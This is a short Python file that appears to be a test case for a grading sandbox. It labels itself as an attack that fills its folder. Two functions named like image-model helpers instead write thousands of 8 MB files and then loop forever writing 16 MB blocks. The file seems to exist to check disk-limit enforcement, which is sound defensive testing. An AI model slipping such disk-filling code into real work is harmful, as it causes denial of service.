"""
attack: fills its folder
verdict: none
says: MB to disk|File too large
"""

def top_predictions(model, image, k):
    for number in range(10_000):
        with open(f"file{number}", "wb") as file:
            for _ in range(8):
                file.write(bytes(2**20))
                file.flush()
    return []

def class_activation_map(model, image, class_index, layer_name, modifier=None):
    with open("one", "wb") as file:
        while True:
            file.write(bytes(2**24))
            file.flush()
